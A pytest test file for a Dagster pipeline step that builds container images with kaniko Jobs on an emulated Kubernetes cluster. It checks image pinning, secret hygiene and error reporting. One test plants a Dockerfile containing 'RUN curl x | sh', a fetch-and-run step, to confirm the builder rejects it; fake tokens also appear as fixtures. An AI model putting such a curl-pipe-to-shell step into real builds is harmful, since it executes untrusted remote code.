"""container_image in the cluster: a kaniko Job through dagster-k8s, on kmock's API server.

:class:`~tests.kaniko_fixtures.FakeBuildCluster` plays the Job controller, the kubelet and
kaniko (no real cluster can run here); the code under test reaches it through a kubeconfig and
the official client, as it reaches a cluster. ``-m cluster`` runs the same build on a real one.
"""

from __future__ import annotations

import json
import os
import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import dagster as dg
import pytest
from kubernetes import client

from tests.k8s_emulator import EmulatorHandle
from tests.k8s_jobs import JOBS
from tests.kaniko_fixtures import (
    BuildMode,
    FakeBuildCluster,
    api_client,
    expected_digest,
)
from tests.test_release_trigger import Repo
from twinme_ops.defs.release.assets import container_image, source_checkout
from twinme_ops.lib.deploy_files import deploy_file
from twinme_ops.lib.git import GitRepoResource
from twinme_ops.lib.image import ImageBuildError
from twinme_ops.lib.kaniko import (
    DIGEST_FILE,
    KANIKO_IMAGE,
    KanikoImageBuilder,
    digest_from_termination_message,
    kaniko_git_context,
    validate_kaniko_image,
)

NAMESPACE = "twinme-build"
REGISTRY = "registry.twinme.test"
SHA = "3f2a9c1d0e8b7a6f5c4d3e2f1a0b9c8d7e6f5a4b"
GIT_TOKEN = "ghp_" + "S3cr3tT0k3n" * 3
REMOTE = f"https://x-access-token:{GIT_TOKEN}@github.com/twinme/twinme-api.git"
DOCKERFILE = deploy_file("app/Dockerfile.production", "Dockerfile.production")


class ListLog:
    """A ``context.log`` stand-in that keeps every line."""

    def __init__(self) -> None:
        self.lines: list[str] = []

    def info(self, msg: str, /) -> None:
        self.lines.append(msg)

    @property
    def text(self) -> str:
        return "\n".join(self.lines)


@pytest.fixture
def build_cluster(
    k8s_emulator: tuple[Path, EmulatorHandle], request: pytest.FixtureRequest
) -> Iterator[FakeBuildCluster]:
    """The fake build cluster; ``@pytest.mark.parametrize("build_cluster", [mode], indirect=True)``
    picks its scenario (default: success)."""
    kubeconfig, handle = k8s_emulator
    mode: BuildMode = getattr(request, "param", "success")
    cluster = FakeBuildCluster(kubeconfig, handle, namespace=NAMESPACE, mode=mode).start()
    try:
        yield cluster
    finally:
        cluster.stop()


def builder(kubeconfig: Path, **overrides: Any) -> KanikoImageBuilder:
    settings: dict[str, Any] = {
        "registry": REGISTRY,
        "namespace": NAMESPACE,
        "kubeconfig": str(kubeconfig),
        "push_secret": "regcred",
        "build_args": {"BASE_IMAGE": "node:20-alpine"},
        "poll_interval_s": 0.05,
        "timeout_s": 30,
    }
    settings.update(overrides)
    return KanikoImageBuilder(**settings)


def create_push_secret(kubeconfig: Path, name: str = "regcred") -> str:
    """A dockerconfigjson Secret in the build namespace; returns the password inside it."""
    password = secrets.token_hex(12)
    auth = json.dumps({"auths": {REGISTRY: {"username": "ci", "password": password}}})
    client.CoreV1Api(api_client(kubeconfig)).create_namespaced_secret(
        NAMESPACE,
        {
            "metadata": {"name": name, "namespace": NAMESPACE},
            "type": "kubernetes.io/dockerconfigjson",
            "stringData": {".dockerconfigjson": auth},
        },
    )
    return password


def build(kubeconfig: Path, log: ListLog, **overrides: Any):
    return builder(kubeconfig, **overrides).build_from_git(
        remote=REMOTE, branch="main", commit=SHA, dockerfile=DOCKERFILE, log=log, run_id="r1"
    )


# --- the build ----------------------------------------------------------------------------------


def test_kaniko_job_builds_the_commit_and_the_digest_comes_from_the_pod(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster
) -> None:
    kubeconfig, handle = k8s_emulator
    password = create_push_secret(kubeconfig)
    log = ListLog()

    built = build(kubeconfig, log)

    record = build_cluster.only_build()
    (job,) = build_cluster.jobs().values()
    # created in the configured namespace (kmock keeps it in the object's key, not its metadata)
    assert handle.run_in_loop(
        lambda km: [(ns, n) for (res, ns, n) in km.objects if res == JOBS]
    ) == [(NAMESPACE, name(job))]
    pod = job["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    # the pinned executor, never a floating tag
    assert container["image"] == KANIKO_IMAGE and not container["image"].endswith(":latest")
    args = container["args"]
    assert f"--destination={REGISTRY}/twinme-api:{SHA}" in args
    assert f"--digest-file={DIGEST_FILE}" in args
    assert container["terminationMessagePath"] == DIGEST_FILE
    assert container["terminationMessagePolicy"] == "File"
    # kaniko clones the exact commit of the branch; the remote's token stays out of the Job
    assert f"--context=git://github.com/twinme/twinme-api.git#refs/heads/main#{SHA}" in args
    assert "--build-arg=BASE_IMAGE=node:20-alpine" in args
    # twinme_ops's Dockerfile travels as an immutable, content-addressed ConfigMap
    assert "--dockerfile=/twinme/dockerfile/Dockerfile" in args
    volumes = {v["name"]: v for v in pod["volumes"]}
    configmap = build_cluster.configmaps()[volumes["dockerfile"]["configMap"]["name"]]
    assert configmap["data"]["Dockerfile"] == DOCKERFILE.read_text()
    assert configmap["immutable"] is True
    # push credentials: the Secret mounted by name as /kaniko/.docker/config.json
    assert volumes["registry-credentials"]["secret"] == {
        "secretName": "regcred",
        "items": [{"key": ".dockerconfigjson", "path": "config.json"}],
    }
    mounts = {m["name"]: m for m in container["volumeMounts"]}
    assert mounts["registry-credentials"]["mountPath"] == "/kaniko/.docker"
    # nothing of the Dagster run leaks into the build pod: no env secrets, no API token
    assert not container.get("envFrom") and not container.get("env")
    assert pod["automountServiceAccountToken"] is False
    assert job["spec"]["backoffLimit"] == 0
    assert job["spec"]["activeDeadlineSeconds"] == 30 + 60  # a backstop after our own timeout
    assert job["metadata"]["labels"]["twinme.ai/commit"] == SHA

    assert (
        built.digest == record.digest == expected_digest(args_value(args, "destination"), name(job))
    )
    assert built.image_ref == f"{REGISTRY}/twinme-api@{built.digest}"
    assert built.tag_ref == f"{REGISTRY}/twinme-api:{SHA}"
    # kaniko's own output reached the run's log, in order
    assert log.text.index('RUN ["npm", "ci"]') < log.text.index(f"Pushed {REGISTRY}/twinme-api@")
    for secret in (GIT_TOKEN, password):
        assert secret not in log.text
        assert secret not in json.dumps(job)


def args_value(args: list[str], flag: str) -> str:
    return next(a.split("=", 1)[1] for a in args if a.startswith(f"--{flag}="))


def name(job: dict[str, Any]) -> str:
    return job["metadata"]["name"]


def test_dockerfile_of_the_repository_is_used_from_the_clone(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster, tmp_path: Path
) -> None:
    kubeconfig, _ = k8s_emulator
    create_push_secret(kubeconfig)
    checkout = tmp_path / "checkout"
    (checkout / "deploy").mkdir(parents=True)
    (checkout / "deploy" / "Dockerfile").write_text("FROM node:20-alpine\n")

    built = builder(kubeconfig).build_from_git(
        remote=REMOTE,
        branch="main",
        commit=SHA,
        dockerfile=checkout / "deploy" / "Dockerfile",
        checkout=checkout,
        log=ListLog(),
    )

    record = build_cluster.only_build()
    assert record.arg("dockerfile") == "deploy/Dockerfile"
    assert not build_cluster.configmaps()
    assert built.digest == record.digest


@pytest.mark.parametrize("build_cluster", ["fail"], indirect=True)
def test_failed_build_is_a_clear_error_and_the_job_is_kept(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster
) -> None:
    kubeconfig, _ = k8s_emulator
    password = create_push_secret(kubeconfig)
    log = ListLog()

    with pytest.raises(ImageBuildError) as failure:
        build(kubeconfig, log)

    job = name(build_cluster.only_build().job)
    message = str(failure.value)
    assert f"kaniko Job {NAMESPACE}/{job} failed" in message
    assert "exited 1 (Error)" in message
    assert "exit status 1" in message  # kaniko's last lines
    assert "a Dockerfile step failed" in message
    assert f"kubectl -n {NAMESPACE} logs job/{job}" in message
    assert job in build_cluster.jobs()  # kept for kubectl logs, until its TTL
    for secret in (GIT_TOKEN, password):
        assert secret not in message and secret not in log.text


@pytest.mark.parametrize("build_cluster", ["no-digest"], indirect=True)
def test_success_without_a_digest_is_refused(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster
) -> None:
    kubeconfig, _ = k8s_emulator
    create_push_secret(kubeconfig)
    with pytest.raises(ImageBuildError, match="left no digest in /dev/termination-log"):
        build(kubeconfig, ListLog())


@pytest.mark.parametrize("build_cluster", ["pull-error"], indirect=True)
def test_unpullable_kaniko_image_fails_fast_and_deletes_the_job(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster
) -> None:
    kubeconfig, _ = k8s_emulator
    create_push_secret(kubeconfig)
    with pytest.raises(ImageBuildError) as failure:
        build(kubeconfig, ListLog(), timeout_s=600)
    message = str(failure.value)
    assert "cannot start: ErrImagePull" in message
    assert "TWINME_KANIKO_IMAGE" in message
    assert not build_cluster.jobs()


def test_missing_push_secret_fails_fast_naming_it(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster
) -> None:
    kubeconfig, _ = k8s_emulator  # no Secret created
    with pytest.raises(ImageBuildError) as failure:
        build(kubeconfig, ListLog(), timeout_s=600)
    message = str(failure.value)
    assert 'secret "regcred" not found' in message
    assert "TWINME_KANIKO_PUSH_SECRET" in message
    assert not build_cluster.jobs()


@pytest.mark.parametrize("build_cluster", ["hang"], indirect=True)
def test_build_over_time_is_stopped_and_reported(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster
) -> None:
    kubeconfig, _ = k8s_emulator
    create_push_secret(kubeconfig)
    log = ListLog()
    with pytest.raises(ImageBuildError) as failure:
        build(kubeconfig, log, timeout_s=1.5)
    message = str(failure.value)
    assert "did not finish within 2 s" in message
    assert "npm http fetch" in message  # the last lines say where it was
    assert not build_cluster.jobs()  # deleted, with its pod
    assert "npm http fetch" in log.text  # streamed while it ran


@pytest.mark.parametrize("build_cluster", ["deadline"], indirect=True)
def test_job_stopped_by_its_deadline_says_so(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster
) -> None:
    kubeconfig, _ = k8s_emulator
    create_push_secret(kubeconfig)
    with pytest.raises(ImageBuildError) as failure:
        build(kubeconfig, ListLog())
    message = str(failure.value)
    assert "stopped by the cluster after activeDeadlineSeconds" in message
    assert "TWINME_KANIKO_TIMEOUT_S" in message and "Taking snapshot" in message


def test_a_foreign_configmap_under_the_dockerfile_name_is_refused(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster
) -> None:
    kubeconfig, _ = k8s_emulator
    create_push_secret(kubeconfig)
    log = ListLog()
    build(kubeconfig, log)
    (name_,) = build_cluster.configmaps()
    core = client.CoreV1Api(api_client(kubeconfig))
    core.delete_namespaced_config_map(name_, NAMESPACE)
    core.create_namespaced_config_map(
        NAMESPACE,
        {"metadata": {"name": name_}, "data": {"Dockerfile": "FROM evil\nRUN curl x | sh\n"}},
    )
    jobs = set(build_cluster.jobs())
    with pytest.raises(ImageBuildError, match=f"ConfigMap {NAMESPACE}/{name_} exists with another"):
        build(kubeconfig, log)
    assert set(build_cluster.jobs()) == jobs  # nothing built from it


# --- pure parts ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "image",
    [
        "gcr.io/kaniko-project/executor",
        "gcr.io/kaniko-project/executor:latest",
        "gcr.io/kaniko-project/executor:debug",
        "registry:5000/kaniko",
    ],
)
def test_floating_kaniko_images_are_refused(image: str) -> None:
    with pytest.raises(ImageBuildError, match="TWINME_KANIKO_IMAGE"):
        validate_kaniko_image(image)


def test_pinned_kaniko_images_are_accepted() -> None:
    assert validate_kaniko_image(KANIKO_IMAGE) == KANIKO_IMAGE
    pinned = "registry:5000/kaniko/executor@sha256:" + "a" * 64
    assert validate_kaniko_image(pinned) == pinned


def test_git_context_drops_credentials_and_keeps_the_port() -> None:
    context, env = kaniko_git_context(
        "https://ci:tok@git.twinme.test:8443/twinme/api.git", "release/1.2", SHA
    )
    assert context == f"git://git.twinme.test:8443/twinme/api.git#refs/heads/release/1.2#{SHA}"
    assert env == {}
    _, env = kaniko_git_context("http://git.internal/twinme/api", "main", SHA)
    assert env == {"GIT_PULL_METHOD": "http"}


@pytest.mark.parametrize(
    "remote", ["git@github.com:twinme/api.git", "ssh://git@github.com/twinme/api", "/srv/api.git"]
)
def test_non_https_remote_is_a_clear_error(remote: str) -> None:
    with pytest.raises(ImageBuildError, match="TWINME_KANIKO_GIT_URL"):
        kaniko_git_context(remote, "main", SHA)


def test_git_context_refuses_a_short_sha_and_odd_branches() -> None:
    with pytest.raises(ImageBuildError, match="full sha"):
        kaniko_git_context("https://github.com/twinme/api.git", "main", SHA[:12])
    with pytest.raises(ImageBuildError, match="TWINME_GIT_BRANCH"):
        kaniko_git_context("https://github.com/twinme/api.git", "main#x", SHA)


def test_digest_from_termination_message() -> None:
    digest = "sha256:" + "b" * 64
    assert digest_from_termination_message(digest + "\n") == digest
    assert digest_from_termination_message("") is None
    assert digest_from_termination_message("sha256:abc") is None


def test_latest_is_never_the_destination(k8s_emulator: tuple[Path, EmulatorHandle]) -> None:
    kubeconfig, _ = k8s_emulator
    with pytest.raises(ImageBuildError, match="refusing to build or push ':latest'"):
        builder(kubeconfig).build_from_git(
            remote=REMOTE,
            branch="main",
            commit=SHA,
            tag="latest",
            dockerfile=DOCKERFILE,
            log=ListLog(),
        )


# --- through Dagster ----------------------------------------------------------------------------


def test_container_image_asset_builds_with_kaniko(
    k8s_emulator: tuple[Path, EmulatorHandle], build_cluster: FakeBuildCluster, tmp_path: Path
) -> None:
    kubeconfig, _ = k8s_emulator
    create_push_secret(kubeconfig)
    repo = Repo(tmp_path / "git")
    sha = repo.commit("release me", {"package.json": "{}\n"})
    repo.push()
    git = GitRepoResource(remote=str(repo.bare), workdir_root=str(tmp_path / "checkouts"))
    resources = {
        "git": git,
        # the local bare repository stands for GitHub: the cluster clones the https URL
        "image_builder": builder(kubeconfig, git_url="https://github.com/twinme/twinme-api.git"),
    }
    instance = dg.DagsterInstance.ephemeral()
    checkout = dg.materialize(
        [source_checkout],
        resources=resources,
        instance=instance,
        run_config={"ops": {"source_checkout": {"config": {"sha": sha}}}},
    )
    assert checkout.success

    result = dg.materialize([container_image], resources=resources, instance=instance)

    assert result.success
    metadata = result.asset_materializations_for_node("container_image")[0].metadata
    record = build_cluster.only_build()
    assert metadata["image_ref"].value == f"{REGISTRY}/twinme-api@{record.digest}"
    assert metadata["tag_ref"].value == f"{REGISTRY}/twinme-api:{sha}"
    assert record.arg("context") == (
        f"git://github.com/twinme/twinme-api.git#refs/heads/main#{sha}"
    )
    assert record.job["metadata"]["labels"]["dagster/run-id"] == result.run_id


def test_environment_selects_the_kaniko_builder(monkeypatch: pytest.MonkeyPatch) -> None:
    from twinme_ops.defs.resources import build_resources

    for var, value in {
        "TWINME_IMAGE_BUILDER": "kaniko",
        "TWINME_REGISTRY": REGISTRY,
        "TWINME_KANIKO_NAMESPACE": "builds",
        "TWINME_KANIKO_PUSH_SECRET": "regcred",
        "TWINME_KANIKO_SERVICE_ACCOUNT": "image-builder",
        "TWINME_KANIKO_GIT_SECRET": "github-read",
        "TWINME_KANIKO_CACHE": "true",
    }.items():
        monkeypatch.setenv(var, value)
    image_builder = build_resources()["image_builder"]
    assert isinstance(image_builder, KanikoImageBuilder)
    assert (image_builder.namespace, image_builder.push_secret) == ("builds", "regcred")
    assert image_builder.service_account == "image-builder"
    assert image_builder.git_secret == "github-read" and image_builder.cache is True
    assert image_builder.kaniko_image == KANIKO_IMAGE

    monkeypatch.setenv("TWINME_IMAGE_BUILDER", "podman")
    with pytest.raises(ValueError, match="TWINME_IMAGE_BUILDER"):
        build_resources()


# --- a real cluster (optional) ------------------------------------------------------------------

HELLO_REPO = "https://github.com/octocat/Hello-World.git"
HELLO_BRANCH = "master"


@pytest.mark.cluster
@pytest.mark.skipif(
    not os.environ.get("TWINME_TEST_CLUSTER"),
    reason="real-cluster tests: set TWINME_TEST_CLUSTER=1, KUBECONFIG and "
    "TWINME_TEST_KANIKO_REGISTRY (a registry the cluster can push to, e.g. ttl.sh)",
)
def test_kaniko_build_on_a_real_cluster(tmp_path: Path) -> None:
    """Builds a tiny image from a public repository in a throwaway namespace, then a failing
    one: the digest comes back from the pod, the failure names the Job."""
    registry = os.environ.get("TWINME_TEST_KANIKO_REGISTRY", "")
    assert registry, "TWINME_TEST_KANIKO_REGISTRY must name a registry the cluster can push to"
    git = GitRepoResource(
        remote=os.environ.get("TWINME_TEST_KANIKO_GIT_URL", HELLO_REPO),
        branch=os.environ.get("TWINME_TEST_KANIKO_GIT_BRANCH", HELLO_BRANCH),
        workdir_root=str(tmp_path / "checkouts"),
    )
    commit = git.ls_remote_head()
    assert commit, f"{git.remote_display} has no branch {git.branch}"
    kubeconfig = os.environ.get("KUBECONFIG") or str(Path.home() / ".kube" / "config")
    core = client.CoreV1Api(api_client(Path(kubeconfig)))
    namespace = f"twinme-kaniko-test-{secrets.token_hex(3)}"
    core.create_namespace({"metadata": {"name": namespace}})
    kaniko = KanikoImageBuilder(
        registry=registry,
        repository=f"twinme-kaniko-test-{secrets.token_hex(4)}",
        namespace=namespace,
        kubeconfig=kubeconfig,
        tls_verify=os.environ.get("TWINME_TEST_KANIKO_INSECURE") != "1",
        pod_resources={"requests": {"cpu": "100m", "memory": "256Mi"}},
        timeout_s=600,
        poll_interval_s=2,
    )
    good, bad = tmp_path / "Dockerfile.good", tmp_path / "Dockerfile.bad"
    good.write_text("FROM registry.k8s.io/pause:3.10\nCOPY README /README\n")
    bad.write_text("FROM registry.k8s.io/pause:3.10\nRUN false\n")
    log = ListLog()
    try:
        built = kaniko.build_from_git(
            remote=git.remote, branch=git.branch, commit=commit, dockerfile=good, log=log
        )
        assert built.image_ref == f"{registry}/{kaniko.repository}@{built.digest}"
        assert digest_from_termination_message(built.digest) == built.digest
        with pytest.raises(ImageBuildError, match=f"kaniko Job {namespace}/twinme-build-"):
            kaniko.build_from_git(
                remote=git.remote, branch=git.branch, commit=commit, dockerfile=bad, log=log
            )
    finally:
        core.delete_namespace(namespace)
